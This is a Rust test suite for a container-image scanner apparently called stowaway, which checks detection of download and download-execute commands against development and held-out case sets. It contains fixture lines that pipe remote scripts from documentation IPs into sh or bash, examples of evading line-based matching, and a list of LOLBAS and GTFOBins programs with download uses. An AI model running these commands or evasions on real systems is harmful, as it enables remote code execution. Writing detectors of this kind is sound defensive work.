//! Command-line detection scored on case files: every case's content is put
//! at its path (and mode) in one image, the image is scanned, and a case is
//! detected when a finding at medium or above names that exact path. Recall
//! is over `expect = "detect"` cases, false positives over `expect = "silent"`
//! look-alikes. `tests/commands/dev.toml` is the development set; the
//! held-out set (`tests/heldout/commands.toml`, written without sight of the
//! code) is scored the same way.

use std::collections::HashSet;
use std::path::Path;

use serde::Deserialize;
use stowaway::Severity;
use stowaway::fixture::{ImageBuilder, LayerBuilder};

use crate::util::{layout, scan_ok, stowaway};

mod metamorphic;

#[derive(Deserialize)]
struct CaseFile {
    case: Vec<Case>,
}

#[derive(Clone, Deserialize)]
#[allow(dead_code)]
struct Case {
    id: String,
    #[serde(default)]
    source: String,
    #[serde(default)]
    carrier: String,
    path: String,
    #[serde(default)]
    executable: bool,
    expect: String,
    content: String,
}

/// The result of scoring one case file.
pub struct Score {
    pub detect: usize,
    pub found: usize,
    pub silent: usize,
    pub flagged: usize,
    pub misses: Vec<String>,
    pub false_positives: Vec<String>,
}

impl Score {
    pub fn recall(&self) -> f64 {
        self.found as f64 / self.detect.max(1) as f64
    }
}

fn norm(path: &str) -> String {
    format!("/{}", path.trim_start_matches('/'))
}

/// Cases in groups with distinct paths (cases that share a path go to
/// different images).
fn batches(cases: &[Case]) -> Vec<Vec<&Case>> {
    let mut batches: Vec<Vec<&Case>> = Vec::new();
    for c in cases {
        let p = norm(&c.path);
        match batches
            .iter_mut()
            .find(|b| b.iter().all(|o| norm(&o.path) != p))
        {
            Some(b) => b.push(c),
            None => batches.push(vec![c]),
        }
    }
    batches
}

/// The cases of a case file.
fn read_cases(file: &Path) -> Vec<Case> {
    let text = std::fs::read_to_string(file).unwrap_or_else(|e| panic!("{}: {e}", file.display()));
    toml::from_str::<CaseFile>(&text)
        .unwrap_or_else(|e| panic!("{}: {e}", file.display()))
        .case
}

/// Scan every case of `file` and score it.
pub fn score(file: &Path) -> Score {
    score_cases(&read_cases(file))
}

/// Scan every case and score it.
fn score_cases(cases: &[Case]) -> Score {
    let batches = batches(cases);
    let mut hits: HashSet<String> = HashSet::new();
    for batch in &batches {
        let mut layer = LayerBuilder::new();
        let mut dirs = HashSet::new();
        for c in batch {
            let p = norm(&c.path);
            // Parent directories first, so every path is reachable.
            let mut acc = String::new();
            let parts: Vec<&str> = p.trim_start_matches('/').split('/').collect();
            for part in &parts[..parts.len() - 1] {
                acc.push_str(part);
                acc.push('/');
                if dirs.insert(acc.clone()) {
                    layer = layer.dir(acc.trim_end_matches('/'), 0o755);
                }
            }
            let mode = if c.executable { 0o755 } else { 0o644 };
            layer = layer.file(p.trim_start_matches('/'), c.content.as_bytes(), mode);
        }
        let (_t, r) = layout(&ImageBuilder::new().layer(layer).build());
        let s = scan_ok(&r);
        for c in batch {
            let p = norm(&c.path);
            if s.findings.iter().any(|f| {
                f.severity >= Severity::Medium
                    && f.path.as_ref().map(|x| x.display()).as_deref() == Some(p.as_str())
            }) {
                hits.insert(c.id.clone());
            }
        }
    }
    let mut sc = Score {
        detect: 0,
        found: 0,
        silent: 0,
        flagged: 0,
        misses: Vec::new(),
        false_positives: Vec::new(),
    };
    for c in cases {
        let hit = hits.contains(&c.id);
        match c.expect.as_str() {
            "detect" => {
                sc.detect += 1;
                if hit {
                    sc.found += 1;
                } else {
                    sc.misses
                        .push(format!("{} ({}, {})", c.id, c.carrier, c.path));
                }
            }
            "silent" => {
                sc.silent += 1;
                if hit {
                    sc.flagged += 1;
                    sc.false_positives
                        .push(format!("{} ({}, {})", c.id, c.carrier, c.path));
                }
            }
            other => panic!("{}: unknown expect {other:?}", c.id),
        }
    }
    sc
}

fn report(name: &str, s: &Score) {
    eprintln!(
        "{name}: recall {}/{} = {:.1}%, look-alikes flagged {}/{}",
        s.found,
        s.detect,
        100.0 * s.recall(),
        s.flagged,
        s.silent
    );
    for m in &s.misses {
        eprintln!("  missed: {m}");
    }
    for m in &s.false_positives {
        eprintln!("  flagged look-alike: {m}");
    }
}

fn root() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

#[test]
fn dev_set_recall_and_precision() {
    let s = score(&root().join("tests/commands/dev.toml"));
    report("dev set", &s);
    assert!(
        s.detect >= 100 && s.silent >= 30,
        "the dev set is too small"
    );
    assert!(s.recall() >= 0.95, "recall below 95%");
    assert!(s.flagged <= 1, "more than one look-alike flagged");
}

/// Score a held-out set under `tests/DIR/commands.toml` (a measurement: it
/// is reported, not tuned on) and hold it to the bar.
fn heldout(name: &str, dir: &str) {
    let file = root().join(dir).join("commands.toml");
    if !file.exists() {
        eprintln!("skipping: {} is not there", file.display());
        return;
    }
    let s = score(&file);
    report(name, &s);
    assert!(s.recall() >= 0.95, "{name}: recall below 95%");
    assert!(s.flagged <= 1, "{name}: more than one look-alike flagged");
}

/// The held-out sets are measurements, run on demand
/// (`cargo test --test tests heldout -- --ignored --nocapture` scores both,
/// each reported on its own). v1 (`tests/heldout/`), first run: 152/173
/// detected (87.9%), 3 of 54 look-alikes flagged; its misses were then
/// known, so it is no longer a clean held-out. After round 2 (classes
/// fixed, not its cases): 172/173 (99.4%), 2 of 54 flagged.
#[test]
#[ignore = "held-out measurement: run explicitly, see the doc comment"]
fn heldout_set_recall_and_precision() {
    heldout("held-out set v1", "tests/heldout");
}

/// v2 (`tests/heldout2/`), written without sight of the code after v1's
/// misses were known; scored only once tuning on the dev set was finished.
/// First run: 161/176 detected (91.5%), 1 of 61 look-alikes flagged — the
/// hidden-set bar (90% / 1) is met, the own-held-out bar (95%) is not.
/// Its misses were then read and their classes fixed (with new dev cases,
/// not its own): 176/176, 0 of 61 flagged — no longer a clean held-out;
/// v1 after the same round: 173/173, 0 of 54 flagged.
#[test]
#[ignore = "held-out measurement: run explicitly, see the doc comment"]
fn heldout2_set_recall_and_precision() {
    heldout("held-out set v2", "tests/heldout2");
}

/// v3 (`tests/heldout3/`), written without sight of the code while round 3
/// tuned on v2's misses; scored once, after tuning stopped. First run:
/// 139/159 detected (87.4%), 0 of 58 look-alikes flagged. Round 4 then
/// tuned on its misses by class (new dev cases `r4-*`), so v3 is now a
/// development set: 159/159, 0/58 (v1 173/173 0/54, v2 176/176 0/61).
#[test]
#[ignore = "held-out measurement: run explicitly, see the doc comment"]
fn heldout3_set_recall_and_precision() {
    heldout("held-out set v3", "tests/heldout3");
}

/// v4 (`tests/heldout4/`, 163 downloads / 58 look-alikes), written without
/// sight of the code while round 5 mined ART/LOLBAS/GTFOBins; scored once
/// on main before round 5 (135/163 = 82.8%, 0 of 58 flagged) and once
/// after it (141/163 = 86.5%, 0 of 58 flagged) — both first sight. Its
/// misses are known from then on, so it is no longer a clean held-out.
#[test]
#[ignore = "held-out measurement: run explicitly, see the doc comment"]
fn heldout4_set_recall_and_precision() {
    heldout("held-out set v4", "tests/heldout4");
}

/// v5 (`tests/heldout5/`, 161 downloads / 54 look-alikes), written without
/// sight of the code; scored once at first sight on main (151/161 = 93.8%,
/// 2 of 54 flagged) and at round 7's end (e420d8c: 152/161 = 94.4%, 2
/// flagged). Its misses are known from then on: a development set, fixed
/// by class with new dev cases (`r8-*`), not by its own text.
#[test]
#[ignore = "held-out measurement: run explicitly, see the doc comment"]
fn heldout5_set_recall_and_precision() {
    heldout("held-out set v5", "tests/heldout5");
}

/// v6 (`tests/heldout6/`, 180 downloads / 60 look-alikes), written without
/// sight of the code and kept from the engineers until rounds 7 and 8 were
/// merged; scored at first sight on main before round 7 (72b7b2c: 161/180 =
/// 89.4%, 1 of 60 flagged), at round 7's midpoint (e420d8c: 162/180 =
/// 90.0%, 1 flagged) and after rounds 7 and 8 (e9730c1: 163/180 = 90.6%,
/// 0 flagged). Two miss classes were fixed after that scoring (a printed
/// shell call still runs: `echo shell_exec('wget …')`; a share given as
/// its `smb://` URL; dev cases `r9-*`): 166/180 = 92.2%, 0 flagged. Round
/// 10 fixed its other 14 misses by class (configuration-management and CI
/// carriers, Dockerfile git sources and key fetches, Windows share copies,
/// WinSCP, CopyHere, built program paths, RMM agents, object-storage and
/// Node stream downloads, nmap http-fetch; dev cases `r10-*` in other
/// wording): 180/180, 0 flagged — a development set, no longer a measure.
#[test]
#[ignore = "held-out measurement: run explicitly, see the doc comment"]
fn heldout6_set_recall_and_precision() {
    heldout("held-out set v6", "tests/heldout6");
}

/// LOLBAS programs with a download (or upload) use, and GTFOBins programs
/// with a download or upload use, directly or through an embedded
/// interpreter (names are facts; examples in catalog.toml are ours).
const LOLBAS: &[&str] = &[
    "GfxDownloadWrapper.exe",
    "AppInstaller.exe",
    "Bitsadmin.exe",
    "CertOC.exe",
    "CertReq.exe",
    "Certutil.exe",
    "Cmd.exe",
    "cmdl32.exe",
    "ConfigSecurityPolicy.exe",
    "DataSvcUtil.exe",
    "Desktopimgdownldr.exe",
    "Diantz.exe",
    "Esentutl.exe",
    "Expand.exe",
    "Extrac32.exe",
    "Findstr.exe",
    "Finger.exe",
    "Ftp.exe",
    "Hh.exe",
    "IMEWDBLD.exe",
    "Ieexec.exe",
    "Installutil.exe",
    "Ldifde.exe",
    "Makecab.exe",
    "Mmc.exe",
    "MpCmdRun.exe",
    "Msedge.exe",
    "Mshta.exe",
    "msoxmled.exe",
    "Ngen.exe",
    "OneDriveStandaloneUpdater.exe",
    "Presentationhost.exe",
    "PrintBrm.exe",
    "Replace.exe",
    "winget.exe",
    "Xwizard.exe",
    "msedge_proxy.exe",
    "PhotoViewer.dll",
    "Scrobj.dll",
    "Shimgvw.dll",
    "Bcp.exe",
    "ECMangen.exe",
    "Excel.exe",
    "MSAccess.exe",
    "MsoHtmEd.exe",
    "Mspub.exe",
    "msxsl.exe",
    "Outlook.exe",
    "Powerpnt.exe",
    "ProtocolHandler.exe",
    "Squirrel.exe",
    "TestWindowRemoteAgent.exe",
    "Update.exe",
    "Visio.exe",
    "VSLaunchBrowser.exe",
    "WinProj.exe",
    "Winword.exe",
    "Wsl.exe",
    "devtunnel.exe",
    "xsd.exe",
];
const GTFOBINS: &[&str] = &[
    "ab",
    "aria2c",
    "bash",
    "busybox",
    "cancel",
    "code",
    "curl",
    "finger",
    "ftp",
    "hping3",
    "jjs",
    "jrunscript",
    "julia",
    "kubectl",
    "lp",
    "lua",
    "lwp-download",
    "nc",
    "nginx",
    "node",
    "openssl",
    "perl",
    "php",
    "python",
    "restic",
    "rlogin",
    "ruby",
    "scp",
    "sftp",
    "smbclient",
    "socat",
    "ssh",
    "sshfs",
    "tailscale",
    "tar",
    "tftp",
    "wget",
    "whois",
    "yum",
    "zsh",
    "bee",
    "byebug",
    "cowsay",
    "cowthink",
    "cpan",
    "dstat",
    "easy_install",
    "exiftool",
    "facter",
    "gdb",
    "gem",
    "gimp",
    "irb",
    "knife",
    "latexmk",
    "lualatex",
    "luatex",
    "needrestart",
    "nmap",
    "pandoc",
    "pdb",
    "pip",
    "pipx",
    "poetry",
    "rake",
    "rpm",
    "rpmdb",
    "rpmquery",
    "rpmverify",
    "sqlmap",
    "tshark",
    "vagrant",
    "vim",
    "volatility",
    "wireshark",
];

#[test]
fn every_catalogue_row_is_detected() {
    let file = root().join("tests/commands/catalog.toml");
    let text = std::fs::read_to_string(&file).unwrap();
    let ids: HashSet<String> = toml::from_str::<CaseFile>(&text)
        .unwrap()
        .case
        .into_iter()
        .map(|c| c.id)
        .collect();
    for n in LOLBAS {
        assert!(
            ids.contains(&format!("lolbas:{n}")),
            "no case for LOLBAS {n}"
        );
    }
    for n in GTFOBINS {
        assert!(
            ids.contains(&format!("gtfobins:{n}")),
            "no case for GTFOBins {n}"
        );
    }
    let s = score(&file);
    report("catalogue rows", &s);
    assert_eq!(
        s.found, s.detect,
        "every catalogue row needs a finding at medium or above"
    );
}

fn scan_files(files: &[(&str, &str)]) -> stowaway::Scan {
    let mut layer = LayerBuilder::new();
    for (p, body) in files {
        layer = layer.file(p, body.as_bytes(), 0o755);
    }
    let (_t, r) = layout(&ImageBuilder::new().layer(layer).build());
    scan_ok(&r)
}

fn findings_at<'a>(s: &'a stowaway::Scan, path: &str) -> Vec<&'a stowaway::Finding> {
    s.findings
        .iter()
        .filter(|f| f.path.as_ref().map(|p| p.display()).as_deref() == Some(path))
        .collect()
}

/// One finding per (file, line), naming every rule that matched the line;
/// the most severe code wins.
#[test]
fn one_finding_per_line_lists_every_rule() {
    let s = scan_files(&[(
        "opt/x.sh",
        "#!/bin/sh\nsocat -u tcp-connect:198.51.100.22:7000 open:/tmp/s,creat\ncurl -s http://198.51.100.1/a | sh\n",
    )]);
    let f = findings_at(&s, "/opt/x.sh");
    assert_eq!(f.len(), 2, "{f:#?}");
    let socat = f
        .iter()
        .find(|x| x.evidence.iter().any(|e| e.starts_with("line 2:")))
        .unwrap();
    let rules: Vec<&String> = socat
        .evidence
        .iter()
        .filter(|e| e.starts_with("rule "))
        .collect();
    assert!(
        rules.len() >= 2,
        "socat matches a command rule and a text rule: {rules:?}"
    );
    let pipe = f
        .iter()
        .find(|x| x.evidence.iter().any(|e| e.starts_with("line 3:")))
        .unwrap();
    assert_eq!(pipe.code, stowaway::Code::DownloadExecChain);
    assert!(
        pipe.evidence
            .iter()
            .any(|e| e.starts_with("rule download-pipe-run"))
    );
}

/// Loopback URLs are health checks: info, never medium.
#[test]
fn loopback_urls_are_info() {
    let s = scan_files(&[(
        "usr/local/bin/hc",
        "#!/bin/sh\ncurl -fsS http://localhost:8080/healthz || exit 1\nwget -qO- http://127.0.0.1:9000/ready\ncurl http://198.51.100.9/x -o /tmp/x\n",
    )]);
    let f = findings_at(&s, "/usr/local/bin/hc");
    assert_eq!(f.len(), 3, "{f:#?}");
    for x in &f {
        let line3_or_2 = x
            .evidence
            .iter()
            .any(|e| e.starts_with("line 2:") || e.starts_with("line 3:"));
        if line3_or_2 {
            assert_eq!(x.severity, Severity::Info, "{x:#?}");
            assert!(x.evidence.iter().any(|e| e.contains("loopback")));
        } else {
            assert_eq!(x.severity, Severity::Medium, "{x:#?}");
        }
    }
}

/// Evasions of line-based matching: a mention before the command on the
/// same line, 50,000 blank lines, download and execution far apart.
#[test]
fn evasions_of_line_matching_are_found() {
    let blank = format!(
        "#!/bin/sh\n{}curl http://198.51.100.2/x | sh\n",
        "\n".repeat(50_000)
    );
    let far = format!(
        "#!/bin/sh\ncurl -so /tmp/far http://198.51.100.3/far\n{}chmod 755 /tmp/far\n",
        "x=1\n".repeat(40)
    );
    let s = scan_files(&[
        (
            "opt/a.sh",
            "#!/bin/sh\necho x; curl -s http://198.51.100.1/p -o /tmp/p && chmod +x /tmp/p && /tmp/p\n",
        ),
        ("opt/b.sh", &blank),
        ("opt/c.sh", &far),
    ]);
    for p in ["/opt/a.sh", "/opt/b.sh", "/opt/c.sh"] {
        assert!(
            findings_at(&s, p)
                .iter()
                .any(|f| f.code == stowaway::Code::DownloadExecChain),
            "{p}: {:#?}",
            findings_at(&s, p)
        );
    }
}

/// Mentions, here-doc text, comments and docstrings are not commands.
#[test]
fn mentions_are_not_commands() {
    let s = scan_files(&[
        (
            "opt/a.sh",
            "#!/bin/sh\necho \"curl -fsSL https://get.example.com | sh\"\nprintf 'wget http://x.example/t -O t'\nexec /app # then: curl http://x.example/y | sh\n",
        ),
        (
            "opt/b.sh",
            "#!/bin/sh\ncat <<EOF\nUsage: curl -o f http://x.example/f | sh\nEOF\n",
        ),
        (
            "opt/c.py",
            "def f():\n    \"\"\"Example:\n\n    urllib.request.urlretrieve('http://x.example/a', 'a')\n    \"\"\"\n",
        ),
        (
            "opt/d.bat",
            "@echo off\necho certutil -urlcache -f http://x.example/a a\nrem bitsadmin /transfer j http://x.example/b b\n",
        ),
        (
            "opt/e.ps1",
            "Write-Host \"iwr http://x.example/a -OutFile a\"\n# (New-Object Net.WebClient).DownloadFile('http://x.example/b','b')\n",
        ),
    ]);
    let loud: Vec<_> = s
        .findings
        .iter()
        .filter(|f| f.severity >= Severity::Medium)
        .collect();
    assert!(loud.is_empty(), "{loud:#?}");
}

/// `stowaway explain` lists the command rules; `explain RULE` describes one.
#[test]
fn explain_lists_the_rules() {
    let out = stowaway(&["explain"]);
    let text = String::from_utf8_lossy(&out.stdout);
    for id in ["certutil", "download-pipe-run", "curl", "com-http"] {
        assert!(text.lines().any(|l| l.starts_with(id)), "{id} not listed");
    }
    let one = stowaway(&["explain", "mpcmdrun-download"]);
    let text = String::from_utf8_lossy(&one.stdout);
    assert!(
        text.contains("mpcmdrun") && text.contains("lolbin-download"),
        "{text}"
    );
}

/// Entrypoint, Cmd and history go through the same command model: an
/// exec-form download, `sh -c` in a history step, a loopback health check.
#[test]
fn config_and_history_on_the_command_model() {
    let img = ImageBuilder::new()
        .layer(
            LayerBuilder::new()
                .created_by("/bin/sh -c sudo -E wget -qO- http://198.51.100.4/i.sh | bash")
                .file("app/x", b"x", 0o644),
        )
        .config(
            "Entrypoint",
            serde_json::json!(["/usr/bin/env", "curl", "-o", "/tmp/x", "http://198.51.100.5/x"]),
        )
        .config(
            "Healthcheck",
            serde_json::json!({"Test": ["CMD", "wget", "-q", "--spider", "http://127.0.0.1:8080/"]}),
        );
    let (_t, r) = layout(&img.build());
    let s = scan_ok(&r);
    let by = |prefix: &str| {
        s.findings
            .iter()
            .filter(|f| f.evidence.first().is_some_and(|e| e.starts_with(prefix)))
            .collect::<Vec<_>>()
    };
    let step = by("history step");
    assert!(
        step.iter()
            .any(|f| f.code == stowaway::Code::DownloadExecChain),
        "{step:#?}"
    );
    let ep = by("entrypoint/cmd");
    assert!(
        ep.iter()
            .any(|f| f.code == stowaway::Code::DownloadCommand && f.severity == Severity::Medium),
        "{ep:#?}"
    );
    let hc = by("healthcheck");
    assert!(hc.iter().all(|f| f.severity <= Severity::Low), "{hc:#?}");
}

/// What a redirection or a line continuation means is part of the command:
/// batch `1>` is stdout like `>` (the saved download is run later), `2>` is
/// not; a PowerShell command continued with backticks is one command.
#[test]
fn redirections_and_continuations_belong_to_the_command() {
    let s = scan_files(&[
        (
            "opt/one.bat",
            "@echo off\r\ncurl http://203.0.113.5/x 1> C:\\t\\x.exe\r\nstart C:\\t\\x.exe\r\n",
        ),
        (
            "opt/two.bat",
            "@echo off\r\ncurl http://203.0.113.5/x 2> C:\\t\\x.exe\r\nstart C:\\t\\x.exe\r\n",
        ),
        (
            "opt/get.ps1",
            "Invoke-WebRequest `\n  -Uri http://203.0.113.5/x.exe `\n  -OutFile C:\\x.exe\n",
        ),
    ]);
    let chain = |p: &str| {
        findings_at(&s, p)
            .iter()
            .any(|f| f.code == stowaway::Code::DownloadExecChain)
    };
    assert!(
        chain("/opt/one.bat"),
        "{:#?}",
        findings_at(&s, "/opt/one.bat")
    );
    assert!(
        !chain("/opt/two.bat"),
        "{:#?}",
        findings_at(&s, "/opt/two.bat")
    );
    assert!(
        findings_at(&s, "/opt/two.bat")
            .iter()
            .any(|f| f.code == stowaway::Code::DownloadCommand),
        "the download itself is still found"
    );
    let ps = findings_at(&s, "/opt/get.ps1");
    assert!(
        ps.iter().any(|f| f
            .evidence
            .iter()
            .any(|e| e.starts_with("rule powershell-webrequest-outfile"))),
        "{ps:#?}"
    );
}
